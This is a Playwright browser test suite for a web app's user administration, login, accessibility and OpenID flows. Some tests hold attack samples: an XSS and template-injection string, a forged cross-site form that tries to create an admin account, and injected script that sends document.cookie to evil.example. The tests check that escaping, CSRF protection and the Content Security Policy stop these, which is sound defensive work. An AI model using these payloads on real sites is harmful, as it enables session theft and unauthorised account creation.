"""The page in a real browser: logins, roles, forms, what scripts may, keyboard, sizes, contrast."""

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from playwright.sync_api import expect

from db.accounts import Role
from node.web.users import Users
from tests.harness import free_port, wait_until
from tests.web.conftest import Visit
from tests.web.serving import PASSWORD, page_config
from tests.web.visiting import DESK, PHONE, Site, running_site

HOSTILE = '<img src=x onerror="document.title=1"><script>document.title=2</script>\'"${{7*7}}'


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """One running page for the tests of this file."""
    with running_site(page_config(tmp_path_factory.mktemp("site"))) as running:
        yield running


def names(site: Site) -> list[str]:
    """List the users."""
    return [each.user.name for each in Users(site.context.database, site.context.trail, "x").all()]


def test_an_admin_adds_a_user_who_then_chooses_a_password(site: Site, visit: Visit) -> None:
    """From the page of users over the printed password to a login that works, all by clicks."""
    admin = visit(site, Role.ADMIN).page
    admin.get_by_role("link", name="Users").click()
    admin.get_by_label("Name", exact=True).fill("Nina")
    admin.get_by_role("combobox", name="Role", exact=True).select_option("operator")
    admin.get_by_role("button", name="Add").click()
    shown = admin.get_by_role("status").inner_text()
    password = shown.rsplit(" ", 1)[1]
    nina = visit(site)
    nina.page.goto("/account")
    nina.submit_login("nina", password)
    expect(nina.page.get_by_role("status")).to_contain_text("Choose one of your own")
    nina.page.get_by_label("Present password").fill(password)
    for label in ("New password, at least 12 characters", "New password again"):
        nina.page.get_by_label(label).fill(PASSWORD)
    nina.page.get_by_role("button", name="Change").click()
    expect(nina.page.get_by_role("navigation", name="Pages")).to_be_visible()
    expect(nina.page.get_by_role("link", name="Users")).to_have_count(0)
    nina.page.get_by_role("button", name="Log out").click()
    expect(nina.page.get_by_role("heading", name="Log in")).to_be_visible()
    nina.page.goto("/account")
    expect(nina.page).to_have_url(f"{site.url}/login?next=%2Faccount")


def test_a_viewer_is_told_what_it_may_not(site: Site, visit: Visit) -> None:
    """The page of users is refused with a sentence, and with the way back."""
    viewer = visit(site, Role.VIEWER, expects="status of 403")
    viewer.page.goto("/users")
    expect(viewer.page.get_by_role("alert")).to_contain_text("this needs the role admin; viewer has viewer")


def test_removing_asks_first(site: Site, visit: Visit) -> None:
    """A question stands before what cannot be undone, and no means no."""
    Users(site.context.database, site.context.trail, "x").add("otto", Role.VIEWER, PASSWORD)
    page = visit(site, Role.ADMIN).page
    page.goto("/users")
    row = page.get_by_role("row").filter(has_text="otto")
    page.once("dialog", lambda dialog: dialog.dismiss())
    row.get_by_role("button", name="Remove").click()
    assert "otto" in names(site)
    page.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Remove").click()
    expect(page.get_by_role("status")).to_have_text("otto is removed.")
    assert "otto" not in names(site)


def test_a_page_elsewhere_cannot_use_the_login(site: Site, visit: Visit) -> None:
    """A form on another site that posts to this one arrives without the cookie, and changes nothing."""
    visitor = visit(site, Role.ADMIN)
    form = (
        f'<form method="post" action="{site.url}/users"><input name="name" value="eve">'
        '<input name="role" value="admin"><button>Win a prize</button></form>'
    )
    evil = "http://evil.example/"
    visitor.page.route(evil, lambda route: route.fulfill(body=form, content_type="text/html"))
    visitor.page.goto(evil)
    visitor.page.get_by_role("button").click()
    visitor.page.wait_for_url(f"{site.url}/**")  # the login sends who is logged in on to the series
    assert "eve" not in names(site)


def test_what_people_write_is_shown_as_they_wrote_it(site: Site, visit: Visit) -> None:
    """Markup and scripts in a text stay text."""
    page = visit(site, Role.OPERATOR).page
    page.goto("/account")
    page.get_by_label("For", exact=True).fill(HOSTILE)
    page.get_by_role("button", name="Make a token").click()
    token = page.locator("#token").inner_text()
    expect(page.get_by_role("cell").first).to_have_text(HOSTILE)
    assert page.title() == "operator · bodytag"
    answer = requests.get(f"{site.url}/users", headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert answer.status_code == 403


def test_scripts_and_styles_within_a_page_do_nothing(site: Site, visit: Visit) -> None:
    """Were something not escaped after all, the Content Security Policy would stop it."""
    page = visit(site, Role.VIEWER, expects="Content Security Policy").page
    page.goto("/account")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "document.title = 'taken over'";
            document.body.append(script);
            const image = document.createElement("img");
            image.setAttribute("onerror", "document.title = 'taken over'");
            image.src = "https://evil.example/?" + document.cookie;
            document.body.append(image);
            const style = document.createElement("style");
            style.textContent = "main { display: none }";
            document.head.append(style);
        }"""
    )
    assert page.title() == "viewer · bodytag"
    assert page.evaluate("document.cookie") == ""
    expect(page.get_by_role("main")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("viewport", [DESK, PHONE], ids=["desk", "phone"])
def test_nothing_is_in_the_way(site: Site, visit: Visit, scheme: str, viewport: dict[str, int]) -> None:
    """Login, account, users and errors pass axe, contrast included, and fit into the window."""
    visitor = visit(site, expects="status of 404", color_scheme=scheme, viewport=viewport)
    found = {}
    visitor.page.goto("/login")
    found["/login"] = visitor.barriers(), visitor.overhang()
    visitor.log_in(Role.ADMIN)
    for path in ("/account", "/users", "/nothing"):
        visitor.page.goto(path)
        found[path] = visitor.barriers(), visitor.overhang()
    assert {path: what for path, what in found.items() if what != ([], 0)} == {}


def test_the_keyboard_reaches_the_content_first(site: Site, visit: Visit) -> None:
    """The first Tab shows the way past the bar; times change their zone by the button, for good."""
    page = visit(site, Role.ADMIN, timezone_id="Asia/Tokyo").page
    page.goto("/users")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    expect(page.get_by_role("link", name="Skip to the content")).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.get_by_role("main")).to_be_focused()
    time = page.locator("time").first
    expect(time).to_contain_text("UTC")
    page.get_by_role("button", name="Times are UTC; show local time").click()
    expect(time).to_contain_text("GMT+9")
    page.reload()
    expect(page.locator("time").first).to_contain_text("GMT+9")


@pytest.fixture(scope="module")
def provider(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Somebody else's OpenID provider, in its own process; gives its issuer."""
    port, person = free_port(), {"sub": "dana", "preferred_username": "Dana", "groups": ["pacs"]}
    options = ["--port", str(port), "--require-nonce", "true", "--user-claims", json.dumps(person)]
    with (tmp_path_factory.mktemp("provider") / "log").open("wb") as log:
        process = subprocess.Popen([sys.executable, "-m", "oidc_provider_mock", *options], stderr=log)
    issuer = f"http://127.0.0.1:{port}"

    def answers() -> bool:
        try:
            return requests.get(f"{issuer}/jwks", timeout=5).ok
        except requests.ConnectionError:
            return False

    wait_until(answers, "the provider answers")
    yield issuer
    process.kill()
    process.wait()


def test_a_browser_logs_in_at_a_provider(provider: str, tmp_path: Path, visit: Visit) -> None:
    """There by a link, back with the cookie that browsers send along a link from elsewhere, and in."""
    port = free_port()
    oidc = {"issuer": provider, "client_id": "bodytag", "client_secret": "x", "roles": {"operator": ["pacs"]}}
    config = page_config(tmp_path, web={"port": port, "url": f"http://127.0.0.1:{port}", "oidc": oidc})
    with running_site(config) as site:
        page = visit(site, expects="Failed to load resource").page  # the provider's page wants fonts
        page.goto("/account")
        page.get_by_role("link", name="Log in with the hospital's account").click()
        page.get_by_role("button", name="dana").click()
        expect(page.get_by_role("heading", name="dana operator")).to_be_visible()
        expect(page).to_have_url(f"{site.url}/account")
        page.get_by_role("button", name="Log out").click()
        page.goto("/account")
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
